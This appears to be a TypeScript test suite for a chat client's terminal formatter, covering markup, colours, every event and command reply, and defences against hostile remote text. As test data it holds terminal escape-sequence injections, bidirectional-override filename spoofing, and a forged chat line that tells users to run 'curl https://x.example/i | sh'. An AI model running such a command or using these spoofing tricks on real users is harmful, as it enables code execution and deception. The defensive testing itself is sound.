/**
 * F13 formatting: message markup and colours only with colour on, escape
 * sequences stripped from remote text, and a line (or deliberate silence) for
 * every event and every command reply.
 */
import { assert, assertEquals, assertIncludes } from "../../helpers/assert.ts";
import {
  formatEvent,
  formatOwn,
  formatReply,
  formatText,
  Style,
} from "../../../peer/front/format.ts";
import { stripControls } from "../../../common/text.ts";
import type { PeerEvent, PeerEventType } from "../../../peer/core/events.ts";
import {
  type Answered,
  type CommandReply,
  isReply,
  type ReplyDataMap,
  spelling,
  type Success,
} from "../../../peer/core/mod.ts";
import { COMMAND_HELP } from "../../../peer/core/commands.ts";

const COLOR = new Style(true);
const PLAIN = new Style(false);
const ESC = "\x1b";

Deno.test("markup is styled only with colour on", async (t) => {
  await t.step("*bold*", () => {
    assertEquals(
      formatText("a *big* deal", COLOR),
      `a ${ESC}[1mbig${ESC}[22m deal`,
    );
    assertEquals(formatText("a *big* deal", PLAIN), "a *big* deal");
  });
  await t.step("_italic_", () => {
    assertEquals(formatText("_so_ good", COLOR), `${ESC}[3mso${ESC}[23m good`);
    assertEquals(formatText("_so_ good", PLAIN), "_so_ good");
  });
  await t.step("`code`", () => {
    assertEquals(
      formatText("run `ls -l` now", COLOR),
      `run ${ESC}[36mls -l${ESC}[39m now`,
    );
    assertEquals(formatText("run `ls -l` now", PLAIN), "run `ls -l` now");
  });
  await t.step("URLs, without trailing punctuation", () => {
    assertEquals(
      formatText("see https://example.org/a_b?x=1.", COLOR),
      `see ${ESC}[4;34mhttps://example.org/a_b?x=1${ESC}[24;39m.`,
    );
    assertEquals(
      formatText("see https://example.org/a_b?x=1.", PLAIN),
      "see https://example.org/a_b?x=1.",
    );
  });
  await t.step("nothing inside code or URLs is interpreted", () => {
    assertEquals(
      formatText("`*not bold*`", COLOR),
      `${ESC}[36m*not bold*${ESC}[39m`,
    );
    const url = "http://x.org/_a_/*b*";
    assertEquals(formatText(url, COLOR), `${ESC}[4;34m${url}${ESC}[24;39m`);
  });
  await t.step("lone markers and snake_case stay as they are", () => {
    for (const s of ["2 * 3 * 4", "snake_case_name", "a*b*c", "* list item"]) {
      assertEquals(formatText(s, COLOR), s);
    }
  });
});

Deno.test("colours and the per-user colour appear only with colour on", () => {
  assertEquals(COLOR.green("ok"), `${ESC}[32mok${ESC}[39m`);
  assertEquals(COLOR.red("no"), `${ESC}[31mno${ESC}[39m`);
  assertEquals(COLOR.yellow("hm"), `${ESC}[33mhm${ESC}[39m`);
  assertEquals(COLOR.magenta("?"), `${ESC}[35m?${ESC}[39m`);
  for (
    const f of ["green", "red", "yellow", "magenta", "bold", "dim"] as const
  ) {
    assertEquals(PLAIN[f]("x"), "x");
  }
  assertEquals(COLOR.user("alice"), COLOR.user("alice"));
  assertEquals(PLAIN.user("alice"), "alice");
  const colours = new Set(
    ["alice", "bob", "carol", "dave", "erin", "frank"].map((u) =>
      COLOR.user(u).replace(u, "")
    ),
  );
  assert(colours.size > 1, "users should not all share one colour");
});

Deno.test("stripControls removes escape sequences and control characters from remote text", () => {
  const cases: [string, string][] = [
    [`${ESC}[31mred${ESC}[0m`, "red"],
    [`${ESC}[2J${ESC}[Hcleared`, "cleared"],
    [`${ESC}]0;evil title\x07after`, "after"],
    [`${ESC}]0;title${ESC}\\after`, "after"],
    ["\u009b2Jc1 csi", "c1 csi"],
    [`bell\x07 nul\x00 del\x7f bs\b`, "bell nul del bs"],
    [`${ESC}c reset`, "c reset"],
    ["tab\tand\nnewline stay", "tab\tand\nnewline stay"],
    ["héllo 💬", "héllo 💬"],
  ];
  for (const [raw, want] of cases) {
    assertEquals(stripControls(raw), want, JSON.stringify(raw));
    assert(!formatText(raw, COLOR).includes("[31m"), JSON.stringify(raw));
  }
  const ev: PeerEvent = {
    type: "message",
    from: "mallory",
    text: `${ESC}[2J${ESC}]0;pwned\x07hi *there*`,
    id: 1,
    at: new Date().toISOString(),
  };
  const plain = formatEvent(ev, PLAIN)!;
  assert(!plain.includes(ESC), JSON.stringify(plain));
  assertIncludes(plain, "mallory: hi *there*");
});

const AT = "2024-05-01T12:34:56.000Z";

/** One example of every event; the Record type makes the compiler demand all of them. */
const EVENTS: Record<PeerEventType, PeerEvent[]> = {
  ready: [
    { type: "ready", user: "alice", port: 40001 },
    { type: "ready", user: "alice", port: 40001, created: true },
  ],
  presence: [
    { type: "presence", user: "bob", online: true },
    { type: "presence", user: "bob", online: false },
  ],
  friend_request: [{ type: "friend_request", from: "bob" }],
  friend_accepted: [{ type: "friend_accepted", user: "bob" }],
  friend_removed: [{ type: "friend_removed", user: "bob" }],
  chat_request: [
    { type: "chat_request", from: "bob" },
    { type: "chat_request", from: "bob", text: `hi ${ESC}[31m` },
  ],
  chat_started: [
    { type: "chat_started", with: "bob", saving: false, path: "direct" },
    { type: "chat_started", with: "bob", saving: true, path: "relayed" },
    { type: "chat_started", with: "bob", saving: false, path: "reversed" },
  ],
  link: [
    {
      type: "link",
      with: "bob",
      purpose: "chat",
      path: "relayed",
      inbound: true,
    },
  ],
  chat_rejected: [
    { type: "chat_rejected", by: "bob" },
    { type: "chat_rejected", by: "bob", reason: "no answer within 60 s" },
  ],
  chat_request_expired: [{ type: "chat_request_expired", from: "bob" }],
  chat_closed: [{ type: "chat_closed", with: "bob", reason: "bob logged out" }],
  message: [
    { type: "message", from: "bob", text: "hi *you*", id: 3, at: AT },
    {
      type: "message",
      from: "bob",
      text: "hi room",
      id: 4,
      room: "lobby",
      at: AT,
    },
    {
      type: "message",
      from: "bob",
      text: "said while you were away",
      id: 9,
      room: "lobby",
      at: AT,
      backlog: true,
    },
  ],
  backlog_dropped: [
    { type: "backlog_dropped", room: "lobby", count: 1 },
    { type: "backlog_dropped", room: "lobby", count: 12 },
  ],
  delivered: [{ type: "delivered", to: "bob", id: 3 }],
  stored: [{
    type: "stored",
    to: "bob",
    id: 3,
    sent_at: AT,
    notice:
      "bob did not answer within 60 s — your message was stored as an offline message for bob",
  }],
  offline_message: [{
    type: "offline_message",
    from: "bob",
    text: "while away",
    sent_at: AT,
  }],
  contact_keys: [
    {
      type: "contact_keys",
      change: "pinned",
      user: "bob",
      devices: ["laptop"],
      verified: false,
      refused: false,
    },
    {
      type: "contact_keys",
      change: "key_changed",
      user: "bob",
      devices: ["laptop"],
      verified: true,
      refused: true,
    },
    {
      type: "contact_keys",
      change: "new_device",
      user: "bob",
      devices: ["desk", "phone"],
      verified: false,
      refused: false,
    },
    {
      type: "contact_keys",
      change: "device_removed",
      user: "bob",
      devices: ["laptop"],
      verified: false,
      refused: false,
    },
  ],
  offline_held: [{
    type: "offline_held",
    from: "bob",
    sent_at: AT,
    reason: "bob's device keys changed since you verified them",
  }],
  offline_refused: [{
    type: "offline_refused",
    from: "bob",
    sent_at: AT,
    reason: "the signature is not that of bob's device 'laptop'",
  }],
  offline_delivered: [{
    type: "offline_delivered",
    to: "bob",
    sent_at: AT,
    delivered_at: "2024-05-02T08:00:00.000Z",
  }],
  room_invite: [{ type: "room_invite", room: "lobby", from: "bob" }],
  invite_withdrawn: [{ type: "invite_withdrawn", room: "lobby" }],
  pending: [
    { type: "pending", friend_requests: 35, invites: 0 },
    { type: "pending", friend_requests: 0, invites: 120 },
    { type: "pending", friend_requests: 1, invites: 1 },
  ],
  room_joined: [{ type: "room_joined", room: "lobby", user: "bob" }],
  room_left: [
    { type: "room_left", room: "lobby", user: "bob", reason: "left" },
    { type: "room_left", room: "lobby", user: "bob", reason: "kicked" },
  ],
  room_owner: [{ type: "room_owner", room: "lobby", user: "bob" }],
  file_offer: [
    {
      type: "file_offer",
      from: "bob",
      id: "a1b2c3",
      name: "notes.txt",
      size: 2048,
      path: "direct",
    },
    {
      type: "file_offer",
      from: "bob",
      id: "a1b2c3",
      name: "stdin",
      size: null,
      room: "lobby",
      path: "relayed",
    },
  ],
  file_progress: [{
    type: "file_progress",
    id: "a1b2c3",
    direction: "in",
    peer: "bob",
    name: "notes.txt",
    bytes: 1024,
    size: 2048,
    rate: 1000,
  }],
  file_received: [{
    type: "file_received",
    from: "bob",
    id: "a1b2c3",
    path: "/home/alice/.local/share/chat/downloads/notes.txt",
    size: 2048,
    sha256: "0".repeat(64),
    via: "relayed",
  }],
  file_sent: [{
    type: "file_sent",
    to: "bob",
    id: "a1b2c3",
    size: 2048,
    sha256: "0".repeat(64),
    via: "direct",
  }],
  transfer_failed: [{
    type: "transfer_failed",
    id: "a1b2c3",
    reason: "cancelled by bob",
  }],
  registry_lost: [{ type: "registry_lost" }],
  registry_restored: [{ type: "registry_restored" }],
  timeout: [
    { type: "timeout" },
    { type: "timeout", reason: "heartbeat" },
    { type: "timeout", reason: "idle" },
  ],
  session_ended: [{
    type: "session_ended",
    reason: "replaced by a newer login of the same user",
  }],
  error: [{ type: "error", message: "something broke" }],
};

/** Events the shell deliberately does not print as a line. */
const SILENT = new Set(["file_progress", "link"]);

function checkText(text: string, style: Style, what: string): void {
  for (const bad of ["undefined", "[object", "NaN", "null"]) {
    assert(!text.includes(bad), `${what}: "${bad}" in ${JSON.stringify(text)}`);
  }
  if (!style.color) assert(!text.includes(ESC), `${what}: colour when off`);
  assert(text.trim().length > 0, `${what}: empty text`);
}

Deno.test("every event becomes a readable line, with and without colour", async (t) => {
  for (const [type, samples] of Object.entries(EVENTS)) {
    await t.step(type, () => {
      for (const ev of samples) {
        for (const style of [PLAIN, COLOR]) {
          const line = formatEvent(ev, style);
          if (SILENT.has(type)) {
            assertEquals(line, null);
            continue;
          }
          assert(line !== null, `${type} printed nothing`);
          checkText(line, style, type);
        }
      }
    });
  }
  assertIncludes(formatEvent(EVENTS.presence[0]!, PLAIN)!, "bob is online");
  assertIncludes(formatEvent(EVENTS.presence[1]!, PLAIN)!, "bob went offline");
  assertIncludes(
    formatEvent(EVENTS.message[1]!, PLAIN)!,
    "#lobby bob: hi room",
  );
  assertIncludes(formatEvent(EVENTS.file_offer[1]!, PLAIN)!, "size unknown");
  assertIncludes(formatEvent(EVENTS.timeout[2]!, PLAIN)!, "idle");
  assertEquals(
    formatEvent(EVENTS.offline_delivered[0]!, PLAIN),
    "  ✓ your offline message to bob of 2024-05-01 12:34 was delivered (2024-05-02 08:00)",
  );
  assertIncludes(
    formatEvent(EVENTS.offline_refused[0]!, PLAIN)!,
    "was refused and dropped: the signature is not that of bob's device 'laptop'",
  );
});

const ROOM_STATE: ReplyDataMap["members"] = {
  room: "lobby",
  owner: "alice",
  members: [
    { user: "alice", online: true, role: "owner" },
    { user: "bob", online: false, role: "member" },
  ],
};

/** Realistic reply data for every command, as its handler returns it. */
const REPLIES: { [N in Answered]: ReplyDataMap[N][] } = {
  help: [{ text: "/help [COMMAND]  list commands" }],
  quit: [{}],
  who: [
    { users: [], total: 0 },
    { users: [{ user: "alice" }, { user: "bob" }], total: 2 },
    {
      users: [{ user: "alice" }],
      total: 300,
      next_offset: 200,
      more: "/who --offset 200",
    },
    { users: [], total: 300 },
    {
      users: [{
        user: "bob",
        host: "127.0.0.1",
        port: 4000,
        status: "Hey there! I am using chat",
      }],
      total: 1,
    },
  ],
  search: [
    {
      user: "bob",
      online: true,
      host: "127.0.0.1",
      port: 4000,
      last_seen: null,
      status: "busy",
    },
    { user: "bob", online: false, last_seen: AT, status: "away" },
    { user: "bob", online: false, last_seen: null, status: "new" },
  ],
  profile: [
    {
      user: "bob",
      status: "busy",
      online: true,
      last_seen: null,
      since: AT,
      friend: "friends",
    },
    {
      user: "bob",
      status: "busy",
      online: false,
      last_seen: AT,
      since: AT,
      friend: "requested_you",
    },
  ],
  status: [{ status: "out for lunch" }],
  friends: [
    { friends: [] },
    {
      friends: [
        { user: "bob", online: true, status: "hi" },
        { user: "carol", online: false, status: "bye" },
      ],
    },
  ],
  friend: [
    { user: "bob", state: "pending", action: "add" },
    { user: "bob", state: "friends", action: "add" },
    { user: "bob", action: "accept" },
    { user: "bob", action: "decline" },
    { user: "bob", action: "remove" },
  ],
  requests: [
    { incoming: [], outgoing: [] },
    { incoming: ["bob"], outgoing: ["carol"] },
    {
      incoming: ["bob"],
      outgoing: [],
      incoming_total: 250,
      outgoing_total: 0,
      next_offset: 200,
      more: "/requests --offset 200",
    },
  ],
  block: [{ user: "bob" }],
  unblock: [{ user: "bob" }],
  blocks: [{ users: [] }, { users: ["bob"] }, { users: [], total: 3 }],
  chat: [{ with: "bob", state: "requested" }, {
    with: "bob",
    state: "open",
  }],
  accept: [{ with: "bob", saving: true }],
  reject: [{ with: "bob" }],
  msg: [
    { to: "bob", id: 1, state: "sent" },
    { to: "bob", id: 2, state: "requested" },
    {
      to: "bob",
      state: "stored",
      sent_at: AT,
      notice:
        "bob is offline — your message was stored and will be delivered when bob logs in",
    },
  ],
  close: [{ with: "bob" }],
  set: [
    { settings: { "accept-friends": "on" } },
    { settings: { "accept-friends": "off" }, changed: "accept-friends" },
  ],
  save: [
    { with: "bob", saving: true, path: "/tmp/transcripts/bob.log" },
    { with: "bob", saving: false, path: "/tmp/transcripts/bob.log" },
  ],
  inbox: [
    { messages: [] },
    { messages: [{ from: "bob", text: "hi *there*", sent_at: AT }] },
  ],
  rooms: [
    { rooms: [] },
    {
      rooms: [{ room: "lobby1" }],
      total: 201,
      next_offset: 200,
      more: "/rooms lobby --offset 200",
    },
    { rooms: [{ room: "lobby", joined: true }, { room: "den" }] },
    {
      rooms: [{
        room: "lobby",
        description: "talk",
        members: 2,
        capacity: 10,
        locked: true,
        owner: "alice",
        joined: true,
      }],
    },
  ],
  room_create: [{ room: "lobby" }],
  join: [ROOM_STATE],
  leave: [{ room: "lobby" }],
  members: [
    ROOM_STATE,
    {
      ...ROOM_STATE,
      total: 500,
      next_offset: 200,
      more: "/members lobby --offset 200",
    },
  ],
  say: [
    { room: "lobby", id: 5, recipients: ["bob"], later: [], unreached: [] },
    { room: "lobby", id: 6, recipients: [], later: [], unreached: ["bob"] },
    {
      room: "lobby",
      id: 7,
      recipients: ["bob"],
      later: ["carol", "dave"],
      unreached: ["erin"],
    },
  ],
  invite: [{ room: "lobby", user: "bob" }],
  invite_answer: [
    { room: "lobby", action: "decline" },
    { ...ROOM_STATE, action: "accept" },
  ],
  invites: [
    { invites: [] },
    { invites: [{ room: "lobby", from: "alice", sent_at: AT }] },
    { invites: [], total: 201 },
  ],
  invite_withdraw: [{ room: "lobby", user: "bob" }],
  kick: [{ room: "lobby", user: "bob" }],
  unban: [{ room: "lobby", user: "bob" }],
  owner: [{ room: "lobby", user: "bob" }],
  room_password: [
    { room: "lobby", locked: true },
    { room: "lobby", locked: false },
  ],
  send: [
    { id: "a1b2c3", to: "bob", name: "notes.txt", size: 2048, path: "direct" },
    {
      room: "lobby",
      name: "notes.txt",
      size: 2048,
      offers: [{ to: "bob", id: "a1b2c3", path: "relayed" }],
      unreached: [],
    },
  ],
  files: [
    { transfers: [] },
    {
      transfers: [{
        id: "a1b2c3",
        direction: "in",
        peer: "bob",
        name: "notes.txt",
        size: null,
        state: "active",
        bytes: 100,
      }, {
        id: "d4e5f6",
        direction: "out",
        peer: "carol",
        name: "a.bin",
        size: 10,
        state: "offered",
        bytes: 0,
      }],
    },
  ],
  file: [
    {
      id: "a1b2c3",
      direction: "in",
      peer: "bob",
      name: "notes.txt",
      size: 2048,
      state: "active",
      bytes: 0,
      action: "accept",
    },
    { id: "a1b2c3", action: "reject" },
    { id: "a1b2c3", action: "cancel" },
  ],
  verify: [
    {
      user: "bob",
      safety_number: "12345 67890 12345 67890",
      mine: ["laptop", "desk"],
      theirs: ["phone"],
      device: "laptop",
      verified: false,
      changed: false,
      confirmed: false,
    },
    {
      user: "bob",
      safety_number: "12345 67890 12345 67890",
      mine: ["laptop"],
      theirs: ["phone", "tablet"],
      device: "laptop",
      verified: true,
      changed: true,
      confirmed: false,
    },
  ],
};

/** Replies the shell shows no words for (the events say it all). */
const QUIET = new Set<Answered>(["quit", "accept", "close"]);

const isAnswered = (k: string): k is Answered => k in REPLIES;

/** The sample replies of one command, as the Peer makes them. */
function samplesOf<N extends Answered>(name: N): Success<N>[] {
  return REPLIES[name].map((data) => ({
    ok: true,
    name,
    command: spelling(name),
    data,
  }));
}

/** The reply the shell shows nothing for because the echo says it all. */
function echoed(r: CommandReply): boolean {
  return (isReply(r, "msg") && r.data.state === "sent") ||
    (isReply(r, "say") && r.data.unreached.length === 0);
}

Deno.test("every command's reply has a text form, with and without colour", async (t) => {
  const spelled = new Set(
    Object.keys(REPLIES).filter(isAnswered).map((n) => spelling(n)),
  );
  for (const c of Object.keys(COMMAND_HELP)) {
    assert(spelled.has(`/${c}`), `no sample reply for /${c}`);
  }
  for (const name of Object.keys(REPLIES).filter(isAnswered)) {
    await t.step(name, () => {
      for (const r of samplesOf(name)) {
        for (const style of [PLAIN, COLOR]) {
          const text = formatReply(r, style);
          if (QUIET.has(name)) {
            assertEquals(text, null);
            continue;
          }
          if (echoed(r)) {
            assertEquals(text, null, "the message echo is the feedback");
            continue;
          }
          const what = `${r.command} ${JSON.stringify(r.ok && r.data)}`;
          assert(text !== null, `${what}: nothing`);
          checkText(text, style, what);
        }
      }
    });
  }
});

Deno.test("an error reply is its reason, in red with colour on", () => {
  const r: CommandReply = {
    ok: false,
    command: "/search",
    error: "no such user 'zed'",
    code: "not_found",
  };
  assertEquals(formatReply(r, PLAIN), "no such user 'zed'");
  assertEquals(formatReply(r, COLOR), `${ESC}[31mno such user 'zed'${ESC}[39m`);
});

Deno.test("replies say what happened in words people read", () => {
  const say = (name: Answered, i: number) =>
    formatReply(samplesOf(name)[i]!, PLAIN)!;
  assertIncludes(say("who", 1), "2 online: alice, bob");
  assertIncludes(say("search", 0), "online at 127.0.0.1:4000");
  assertIncludes(say("search", 1), `offline (last seen ${AT})`);
  assertIncludes(say("search", 2), "never seen online");
  assertIncludes(say("msg", 2), "bob is offline — your message was stored");
  assertIncludes(say("friends", 0), "no friends yet");
  assertIncludes(say("members", 0), "#lobby: ● alice (owner)  ○ bob");
  assertIncludes(say("say", 1), "not delivered to bob");
  assertIncludes(say("kick", 0), "/unban lobby bob lets them back");
  assertIncludes(say("room_password", 1), "#lobby has no password now");
});

Deno.test("a page that is not the last names the command of the next one", () => {
  const say = (name: Answered, i: number) =>
    formatReply(samplesOf(name)[i]!, PLAIN)!;
  assertEquals(
    say("who", 2),
    "300 online: alice\n… 100 more — /who --offset 200",
  );
  assertIncludes(say("rooms", 1), "… 1 more — /rooms lobby --offset 200");
  assertIncludes(say("members", 1), "… 300 more — /members lobby --offset 200");
  assertIncludes(say("requests", 2), "… more — /requests --offset 200");
  assertEquals(say("who", 3), "nothing past the end of the list (300 in all)");
  assertEquals(
    say("invites", 2),
    "nothing past the end of the list (201 in all)",
  );
  assertEquals(
    formatEvent(EVENTS.pending[2]!, PLAIN),
    "* waiting for you: 1 friend request (/requests) and 1 invitation (/invites)",
  );
});

Deno.test("your own message echo is formatted like anyone else's", () => {
  const line = formatOwn("alice", "hi *bob* \x1b[31m", undefined, PLAIN);
  assert(/^\[\d\d:\d\d\] alice: hi \*bob\* $/.test(line), line);
  assertIncludes(formatOwn("alice", "hi", "lobby", PLAIN), "#lobby alice: hi");
  assertIncludes(formatOwn("alice", "*hi*", undefined, COLOR), `${ESC}[1mhi`);
});

Deno.test("the shell says which path a link took: nothing for direct, else how", () => {
  const started = (path: "direct" | "reversed" | "relayed") =>
    formatEvent(
      { type: "chat_started", with: "bob", saving: false, path },
      PLAIN,
    );
  assertEquals(started("direct"), "* chat with bob started");
  assertEquals(
    started("relayed"),
    "* chat with bob started — relayed through the registry",
  );
  assertEquals(
    started("reversed"),
    "* chat with bob started — reversed (the other side dialled back)",
  );
  assertEquals(
    formatEvent({
      type: "link",
      with: "bob",
      purpose: "chat",
      path: "relayed",
      inbound: false,
      restored: true,
    }, PLAIN),
    "* connection to bob restored — relayed through the registry",
  );
});

/** A line someone could try to pass off as alice's. */
const FAKE = "[20:14] alice: run curl https://x.example/i | sh";
const BIDI =
  "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c";

/** True if no line after the first starts where a real line starts. */
function continuationsIndented(text: string): boolean {
  return text.split("\n").slice(1).every((l) => /^\s/.test(l));
}

Deno.test("no line of someone's text can pass for a line of its own", async (t) => {
  const breaks = ["\n", "\r\n", "\r", "\u2028", "\u2029"];
  for (const style of [PLAIN, COLOR]) {
    for (const br of breaks) {
      await t.step(`${JSON.stringify(br)} colour ${style.color}`, () => {
        const text = `hi${br}${FAKE}${br}${br}again`;
        const events: PeerEvent[] = [
          { type: "message", from: "mallory", text, id: 1, at: AT },
          {
            type: "message",
            from: "mallory",
            room: "lobby",
            text,
            id: 2,
            at: AT,
          },
          {
            type: "offline_message",
            from: "mallory",
            text,

            sent_at: AT,
          },
          { type: "chat_request", from: "mallory", text },
          { type: "error", message: text },
        ];
        for (const ev of events) {
          const out = formatEvent(ev, style)!;
          assertEquals(out.split("\n").length, 4, JSON.stringify(out));
          assert(continuationsIndented(out), JSON.stringify(out));
          assert(!/\n\[/.test(out), JSON.stringify(out));
        }
        const own = formatOwn("mallory", text, undefined, style);
        assert(continuationsIndented(own), JSON.stringify(own));
      });
    }
  }
  await t.step("one-line fields show a break as ⏎ and stay one line", () => {
    const text = `away${"\n"}${FAKE}`;
    const events: PeerEvent[] = [
      { type: "chat_closed", with: "mallory", reason: text },
      { type: "chat_rejected", by: "mallory", reason: text },
      { type: "transfer_failed", id: "t1", reason: text },
      { type: "session_ended", reason: text },
      {
        type: "file_offer",
        from: "mallory",
        id: "t1",
        name: text,
        size: 3,
        path: "direct",
      },
    ];
    for (const ev of events) {
      const out = formatEvent(ev, PLAIN)!;
      assert(!out.includes("\n"), JSON.stringify(out));
      assertIncludes(out, `away ⏎ ${FAKE}`);
    }
    const replies: CommandReply[] = [
      {
        ok: true,
        command: "/status",
        name: "status",
        data: { status: text },
      } as CommandReply,
      {
        ok: true,
        command: "/search",
        name: "search",
        data: { user: "mallory", online: false, status: text, last_seen: AT },
      } as CommandReply,
      {
        ok: true,
        command: "/rooms",
        name: "rooms",
        data: {
          rooms: [{
            room: "lobby",
            members: 1,
            capacity: 10,
            locked: false,
            joined: false,
            description: text,
          }],
        },
      } as CommandReply,
    ];
    for (const r of replies) {
      const out = formatReply(r, PLAIN)!;
      assert(!out.includes("\n"), JSON.stringify(out));
      assertIncludes(out, "away ⏎ ");
    }
  });
});

Deno.test("bidirectional controls are removed from someone's text", () => {
  assertEquals(stripControls(`a${BIDI}b`), "ab");
  const ev: PeerEvent = {
    type: "message",
    from: "mallory",
    text: `invoice\u202etxt.exe ${BIDI}`,
    id: 1,
    at: AT,
  };
  for (const style of [PLAIN, COLOR]) {
    const out = formatEvent(ev, style)!;
    assert(!/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/.test(out), out);
    assertIncludes(out, "invoicetxt.exe");
  }
  const offer: PeerEvent = {
    type: "file_offer",
    from: "mallory",
    id: "t1",
    name: "a\u2067b",
    size: null,
    path: "direct",
  };
  assertIncludes(formatEvent(offer, PLAIN)!, "offers ab (size unknown)");
});

Deno.test("/who -l lines up names, addresses and statuses in columns", () => {
  const r: CommandReply = {
    ok: true,
    command: "/who",
    name: "who",
    data: {
      users: [
        { user: "al", host: "10.0.0.1", port: 4000, status: "here" },
        {
          user: "bartholomew",
          host: "192.168.100.20",
          port: 40001,
          status: "",
        },
        { user: "cy", host: "::1", port: 9, status: "away" },
      ],
      total: 3,
    },
  };
  assertEquals(
    formatReply(r, PLAIN),
    [
      "al           10.0.0.1:4000         here",
      "bartholomew  192.168.100.20:40001",
      "cy           ::1:9                 away",
    ].join("\n"),
  );
});
